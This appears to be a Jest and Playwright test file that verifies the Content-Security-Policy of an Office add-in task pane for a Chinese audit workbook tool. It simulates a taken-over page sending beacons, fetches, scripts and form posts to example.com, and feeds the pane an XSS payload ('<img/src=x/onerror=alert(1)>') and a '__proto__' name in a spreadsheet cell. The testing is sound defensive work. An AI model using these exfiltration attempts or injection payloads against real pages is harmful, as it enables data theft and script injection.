/** @jest-environment node */
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import type { Frame } from "playwright-core";
import { buildWorkbench } from "../../scripts/workbench/build";
import { serveFolder, type Serving } from "../../scripts/workbench/serve";
import { plainWorkbook, sheetData } from "../files/packages";
import { WatchedBrowser } from "./watched-browser";

/*
 * What the pane may do and does, in Chromium: its connections are taken down by a proxy, so that one that escaped every
 * other eye would be seen.
 */

const OFFICE_JS = join(dirname(require.resolve("@microsoft/office-js/package.json")), "dist");
const CDN = "https://appsforoffice.microsoft.com/";
/** Without TLS, so that the proxy sees every request itself and not only that a connection was asked for. */
const ELSEWHERE = "http://example.com/";

let watched: WatchedBrowser;
beforeAll(async () => {
  watched = await WatchedBrowser.start();
}, 120_000);
afterAll(() => watched?.stop());

/** What a page that has been taken over would try, and what came of it. */
async function attempts(frame: Frame): Promise<Record<string, string>> {
  return frame.evaluate(async () => {
    const refused: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
    const outcome = async (act: () => unknown): Promise<string> => {
      try {
        await act();
        return "done";
      } catch (error) {
        return (error as Error).name;
      }
    };
    const element = (name: string, attributes: Record<string, string>) => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      document.body.append(made);
    };
    // What the debugger calls at once may use eval whatever the policy says; what comes later may not.
    await new Promise((resolve) => setTimeout(resolve, 0));
    const results: Record<string, string> = {
      eval: await outcome(() => (0, eval)("1")),
      Function: await outcome(() => new Function("return 1")()),
      fetch: await outcome(() => fetch("http://example.com/fetch")),
      XMLHttpRequest: await outcome(() => {
        const request = new XMLHttpRequest();
        request.open("GET", "http://example.com/xhr", false);
        request.send();
      }),
    };
    navigator.sendBeacon("http://example.com/beacon", "x");
    element("img", { src: "http://example.com/image.png" });
    element("script", { src: "http://example.com/script.js" });
    element("iframe", { src: "http://example.com/frame" });
    element("object", { data: "http://example.com/object" });
    element("link", { rel: "stylesheet", href: "http://example.com/style.css" });
    element("iframe", { name: "answer" });
    element("form", { action: "http://example.com/form", method: "post", target: "answer" });
    document.forms[document.forms.length - 1]!.submit();
    const inline = document.createElement("script");
    inline.textContent = "window.inlineRan = true";
    document.body.append(inline);
    // Until nothing more has been refused for a while: how long that takes depends on the machine.
    for (let seen = -1; seen !== refused.length;) {
      seen = refused.length;
      await new Promise((resolve) => setTimeout(resolve, 1000));
    }
    results.inline = (window as unknown as { inlineRan?: boolean }).inlineRan ? "done" : "refused";
    results.directives = [...new Set(refused)].sort().join(" ");
    return results;
  });
}

/** What the proxy sees of them where nothing refuses them. */
const ATTEMPTS = ["beacon", "fetch", "form", "frame", "image.png", "object", "script.js", "style.css", "xhr"];

const REFUSED = {
  eval: "EvalError",
  Function: "EvalError",
  fetch: "TypeError",
  XMLHttpRequest: "NetworkError",
  inline: "refused",
  directives: "connect-src form-action frame-src img-src object-src script-src script-src-elem style-src-elem",
};

describe("the pane over office.js in the workbench", () => {
  let serving: Serving;
  beforeAll(async () => {
    serving = await serveFolder(await buildWorkbench(), 0);
  }, 900_000);
  afterAll(() => serving?.close());

  it("does its whole work, with a workbook of hostile names, without a connection beyond its own server, and can make none", async () => {
    const context = await watched.context();
    const page = await context.newPage();
    page.setDefaultTimeout(120_000);
    const [urls, errors] = [[] as string[], [] as string[]];
    page.on("request", (request) => urls.push(request.url()));
    page.on("pageerror", (error) => errors.push(error.message));
    page.on("dialog", (dialog) => {
      errors.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.goto(serving.address);
    const paneOf = async () => {
      const frame = (await (await page.waitForSelector("#pane[src]")).contentFrame())!;
      await frame.waitForSelector("button");
      return frame;
    };
    await paneOf();
    await page.setInputFiles('input[type="file"]', { name: "a.xlsx", mimeType: "", buffer: Buffer.from(HOSTILE) });
    await page.waitForFunction(() => document.querySelector("#spreadsheet")?.textContent?.includes("表一"));
    const pane = await paneOf();
    await pane.getByRole("button", { name: "校验", exact: true }).click();
    await pane.waitForSelector('[role="tablist"]');
    expect(await pane.evaluate(() => document.body.textContent)).toContain("<img/src=x/onerror=aler…");
    expect(await pane.evaluate(() => document.querySelectorAll("img, b, script:not([src])").length)).toBe(0);
    await pane.getByRole("tab", { name: "底稿" }).click();
    await pane.getByRole("button", { name: "生成底稿" }).first().click();
    await pane
      .getByRole("region", { name: "消息" })
      .getByText(/已生成 \d+ 张底稿/)
      .first()
      .waitFor();
    expect(watched.takeAsked()).toEqual([]);
    expect(await attempts(pane)).toEqual(REFUSED);
    expect(watched.takeAsked()).toEqual([]);
    expect(errors).toEqual([]);
    expect(
      urls.filter(
        (url) => !url.startsWith(serving.address) && !/^(data|blob|about):/.test(url) && !url.startsWith(ELSEWHERE),
      ),
    ).toEqual([]);
    await context.close();
  }, 600_000);
});

describe.each([
  // Outside Excel the CDN's office.js would have Microsoft's telemetry page; the policy refuses it, but Chromium opens
  // a connection for a frame before it asks the policy.
  ["for Excel from the Internet", {}, [CDN], /^telemetryservice\.firstpartyapps\.oaspapps\.com:/],
  ["for an intranet", { intranet: true, base: "https://nw.example/gouji" }, [], /^$/],
])("the build %s", (_name, env, allowed, asks) => {
  let folder: string;
  let serving: Serving;
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), "gouji-pane-"));
    // In a process of its own: webpack's plugins evaluate what they load, which jest's modules get in the way of.
    const script = `
      const addins = require("./webpack.config.js")(${JSON.stringify(env)}).filter(({ name }) => !/^(cli|library-\\w+)$/.test(name));
      for (const { output } of addins) output.path = ${JSON.stringify(folder)};
      require("webpack")(addins, (error, stats) => {
        if (error || stats.hasErrors()) throw error ?? new Error(stats.toString());
      });`;
    execFileSync(process.execPath, ["-e", script]);
    serving = await serveFolder(folder, 0);
  }, 900_000);
  afterAll(async () => {
    await serving?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it.each(["taskpane.html", "help.html", "notice.html"])(
    "opens %s with nothing from elsewhere but office.js, under a policy without eval",
    async (page) => {
      const context = await watched.context();
      const opened = await context.newPage();
      opened.setDefaultTimeout(120_000);
      const elsewhere: string[] = [];
      // The library of the CDN is not at hand: npm's stands in for it.
      await context.route(`${CDN}**`, (route) => {
        const file = new URL(route.request().url()).pathname.replace("/lib/1/hosted/", "");
        return route.fulfill({ contentType: "text/javascript", body: readFileSync(join(OFFICE_JS, file), "utf8") });
      });
      opened.on("request", (request) => elsewhere.push(request.url()));
      await opened.goto(`${serving.address}${page}`, { waitUntil: "load" });
      await new Promise((resolve) => setTimeout(resolve, 3000));
      const strangers = elsewhere.filter((url) => !url.startsWith(serving.address) && !/^(data|blob|about):/.test(url));
      expect(strangers.filter((url) => !allowed.some((origin) => url.startsWith(origin)))).toEqual([]);
      expect(
        await opened.evaluate(async () => {
          await new Promise((resolve) => setTimeout(resolve, 0));
          try {
            return (0, eval)("1") as unknown;
          } catch (error) {
            return (error as Error).name;
          }
        }),
      ).toBe("EvalError");
      expect(watched.takeAsked().filter((host) => !asks.test(host))).toEqual([]);
      await context.close();
    },
    300_000,
  );

  it("sends nothing when it has been taken over, whereas without its policy every attempt is seen", async () => {
    const sent = async (bypassCSP: boolean) => {
      const context = await watched.context({ bypassCSP });
      const opened = await context.newPage();
      opened.setDefaultTimeout(120_000);
      await opened.goto(`${serving.address}taskpane.html`, { waitUntil: "load" });
      watched.takeAsked();
      await attempts(opened.mainFrame());
      const asked = new Set<string>();
      for (let waited = 0; waited < (bypassCSP ? 60 : 3) && asked.size < ATTEMPTS.length; waited++) {
        for (const url of watched.takeAsked()) if (url.includes("example.com")) asked.add(url.replace(ELSEWHERE, ""));
        await new Promise((resolve) => setTimeout(resolve, 1000));
      }
      await context.close();
      return [...asked].sort();
    };
    expect(await sent(false)).toEqual([]);
    expect(await sent(true)).toEqual(ATTEMPTS);
  }, 300_000);

  it("names a policy that allows neither eval nor scripts written into the page", () => {
    for (const page of ["taskpane.html", "help.html", "notice.html"]) {
      const policy = /Content-Security-Policy"?\s+content="([^"]+)"/.exec(
        readFileSync(join(folder, page), "utf8"),
      )![1]!;
      const scripts = /script-src ([^;]+)|default-src ('none')/.exec(policy)!;
      expect(policy).not.toContain("unsafe-eval");
      expect(scripts[0]).not.toMatch(/unsafe|\*|data:|blob:/);
    }
  });
});

const text = (value: string) =>
  `<c t="inlineStr"><is><t>${value.replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</t></is></c>`;
const row = (...cells: (string | number)[]) =>
  `<row>${cells.map((cell) => (typeof cell === "number" ? `<c><v>${cell}</v></c>` : text(cell))).join("")}</row>`;
/** A project whose name is a page's, and whose closing balance does not follow from the rest. */
const HOSTILE = plainWorkbook([
  [
    "表一",
    sheetData(
      row("2020年度项目资金收支明细表") +
        row("单位：万元") +
        row("项目", "上年结转结余", "本年收到", "本年支出", "年末结转结余") +
        row("<img/src=x/onerror=alert(1)>", 1, 5, 2, 99) +
        row("<b>__proto__</b>", 1, 1, 1, 1),
    ),
  ],
]);
